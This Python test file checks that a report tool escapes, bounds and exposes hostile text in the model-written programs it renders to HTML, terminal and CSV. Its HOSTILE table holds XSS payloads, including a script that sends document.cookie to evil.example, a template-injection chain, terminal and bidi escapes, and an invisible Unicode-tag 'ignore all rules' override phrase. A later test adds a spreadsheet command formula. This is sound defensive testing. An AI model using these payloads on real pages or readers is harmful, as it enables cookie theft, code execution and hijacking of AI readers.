"""What models and programs wrote is shown without harm: it stays text, it is seen for what it is, and it is bounded."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from synthetic_run import Shape, Weights, make_run

from weighbridge import report
from weighbridge.report import exhibits, page
from weighbridge.report.hostile import line, marked, spreadsheet, visible
from weighbridge.report.page import Section, render_page, section

HOSTILE = {
    "script": "<script>fetch('http://evil.example/'+document.cookie)</script>",
    "end of style": "</style><style>@import url(http://evil.example/x.css);</style>",
    "end of everything": "</code></pre></details></main></body></html><h1>sound</h1>",
    "handler": '"><img src=http://evil.example/a.png onerror=alert(1)>',
    "svg": "<svg onload=alert(1)><use href='http://evil.example/#x'/></svg>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;&#x3C;script&#x3E;",
    "template": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "comment": "<!-- --!> <![CDATA[ ]]> <?php ?>",
    "base": "<base href='http://evil.example/'><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "link": "<a href='javascript:alert(1)'>x</a><form action=http://evil.example><input></form>",
    "null": "a\x00b",
    "bidi": "if access:\u202e } \u2066if admin\u2069 \u2066 begin",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "zero width": "adm\u200bin\ufeff\u2060",
    "tags": "".join(chr(0xE0000 + ord(c)) for c in "ignore all rules"),
}


class Page(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def parsed(html: str) -> Page:
    reader = Page()
    reader.feed(html)
    return reader


def assert_harmless(html: str) -> None:
    """No script, no handler, nothing loaded, no link out, one style sheet that is the one named by its hash."""
    found = parsed(html)
    names = [name for name, _ in found.tags]
    assert not {"script", "iframe", "object", "embed", "img", "link", "base", "form", "input", "use", "image"} & set(
        names
    )
    assert names.count("style") == names.count("html") == names.count("body") == names.count("h1") == 1
    for name, attributes in found.tags:
        for key, value in attributes.items():
            assert not key.startswith("on"), (name, key)
            assert key not in {"src", "srcset", "action", "formaction", "xlink:href", "style", "background", "ping"}, (
                name
            )
            if key == "href":
                assert str(value).startswith("#"), value
            if key not in {"aria-label", "content"} and not key.startswith("xmlns"):
                assert "http:" not in str(value) and "https:" not in str(value), (name, key, value)
    metas = [attributes for name, attributes in found.tags if name == "meta" and "http-equiv" in attributes]
    assert [meta["http-equiv"] for meta in metas] == ["Content-Security-Policy"]
    assert str(metas[0]["content"]).startswith("default-src 'none'")
    style = re.search(r"<style>(.*?)</style>", html, re.DOTALL)
    assert style is not None
    assert "@import" not in style[1] and "url(" not in style[1] and "http" not in style[1]


def every_name_hostile(text: str) -> Shape:
    return Shape(
        models=(Weights(f"a{text}"), Weights("b", provider="openai")),
        tasks=2,
        repeats=1,
        contexts=("neutral", f"us_defence/{text}", "placebo/choir"),
        program=(text.replace("{", "{{").replace("}", "}}")) + "\n# {number} {task} {model} {context}",
    )


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_stays_text_wherever_it_stands(tmp_path: Path, name: str) -> None:
    html = report.write(make_run(tmp_path / "run", every_name_hostile(HOSTILE[name]))).read_text("utf-8")
    assert_harmless(html)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]", html)
    assert not re.search("[\U000e0000-\U000e007f]", html)


def test_an_honest_report_loads_nothing_and_runs_nothing(tmp_path: Path) -> None:
    assert_harmless(report.write(make_run(tmp_path / "run", Shape(tasks=3))).read_text("utf-8"))


def test_hostile_names_do_not_reach_a_terminal_or_a_spreadsheet(tmp_path: Path) -> None:
    from rich.console import Console

    run = make_run(tmp_path / "run", every_name_hostile("\x1b[2J[bold red]=cmd|'/c calc'!A1\u202e"))
    console = Console(width=100, record=True, file=(tmp_path / "out").open("w"))
    report.print_summary(console, run)
    printed = console.export_text()
    assert "\x1b" not in printed and "\u202e" not in printed
    assert "[bold red]" in printed  # markup is printed, not obeyed
    for path in report.write_csv(run):
        text = path.read_text("utf-8")
        assert "\x1b" not in text and "\u202e" not in text
        assert not re.search(r'(^|,)"?[=+@]', text, re.MULTILINE)


def test_a_program_of_ten_megabytes_is_cut_with_a_note(tmp_path: Path) -> None:
    run = make_run(
        tmp_path / "run",
        Shape(models=(Weights("m", (1, 0, 0, 0, 0, 0)),), tasks=2, repeats=1, contexts=("neutral",),
              program="# {number} {task}\n" + "A" * 10_000_000),
    )  # fmt: skip
    html = report.write(run).read_text("utf-8")
    assert len(html) < 300_000
    assert "more characters are not shown" in html


@pytest.mark.parametrize("text", ["\u202e" * 1_000_000, "a\u202e" * 500_000, "<" * 1_000_000, "\x00\n" * 500_000])
def test_the_html_of_a_text_is_bounded_whatever_it_is_made_of(text: str) -> None:
    assert len(marked(text)) < 20_000 * 14


def test_a_run_of_ten_thousand_trials_stays_small_and_names_what_it_leaves_out(tmp_path: Path) -> None:
    run = make_run(
        tmp_path / "run",
        Shape(models=(Weights("m", (0.9, 0.1, 0, 0, 0, 0)), Weights("n", (0.5, 0.5, 0, 0, 0, 0))), tasks=50,
              repeats=25, contexts=("neutral", "placebo/choir", "us_defence/army", "mirror/brazil"),
              program="# {number} {context} {model} {task}\n" + "x = 1\n" * 2_000),
    )  # fmt: skip
    html = report.write(run).read_text("utf-8")
    assert len(html.encode()) < 8_000_000
    shown = html.count('<pre class="program"')
    assert shown <= exhibits.PROGRAMS_SHOWN + 2 * 2 * exhibits.SAMPLE + 1
    assert "more programs, by replay command" in html
    assert html.count("weighbridge replay") > exhibits.PROGRAMS_SHOWN


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain", "plain"),
        ("naïve 漢字 🙂 –", "naïve 漢字 🙂 –"),
        ("a\u202eb", "a⟨U+202E⟩b"),
        ("\x1b[31m", "⟨U+001B⟩[31m"),
        ("a\xa0b", "a⟨U+00A0⟩b"),
        ("x\ufe0f", "x⟨U+FE0F⟩"),
        ("tab\tand\nbreak", "tab\tand\nbreak"),
    ],
)
def test_what_cannot_be_seen_is_named(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_code_keeps_its_lines_and_marks_what_is_hidden() -> None:
    assert str(marked("if a:\n\tb < c\r\n")) == "if a:\n\tb &lt; c\n"
    assert '<span class="unseen">U+202E ×3</span>' in marked("x\u202e\u202e\u202ey")
    assert "U+000D" in marked("shown\rhidden")


def test_a_field_stays_on_one_line_and_is_cut() -> None:
    assert line("a\n b\t c") == "a b c"
    assert line("a" * 1000, 10) == "a" * 10 + " [… 990 more characters are not shown]"


@pytest.mark.parametrize(("text", "cell"), [("=1+1", "'=1+1"), ("-2", "'-2"), ("@x", "'@x"), ("a=b", "a=b"), ("", "")])
def test_a_spreadsheet_runs_no_formula(text: str, cell: str) -> None:
    assert spreadsheet(text) == cell


def test_whatever_a_template_prints_is_made_visible_and_escaped() -> None:
    made = page.environment().from_string("{{ text }}").render(text="<b>\u202e\x00")
    assert made == "&lt;b&gt;⟨U+202E⟩⟨U+0000⟩"


def test_the_policy_names_the_style_sheet_that_is_there() -> None:
    import base64
    import hashlib

    html = render_page("T", [section("audit/limits.html", "Limits", sentences=["a"])])
    style = re.search(r"<style>(.*?)</style>", html, re.DOTALL)
    policy = re.search(r'content="(default-src [^"]*)"', html)
    assert style is not None and policy is not None
    digest = base64.b64encode(hashlib.sha256(style[1].encode()).digest()).decode()
    assert f"sha256-{digest}" in policy[1].replace("&#39;", "'").replace("&#43;", "+")


def test_a_page_of_another_kind_uses_the_same_shell() -> None:
    from markupsafe import Markup

    html = render_page("<Gap>", [Section("gap", "The gap", "Gap", Markup("<p>text</p>"))], lead="a & b", kind="Gap")
    assert_harmless(html)
    assert "&lt;Gap&gt;" in html and "a &amp; b" in html and "<p>text</p>" in html
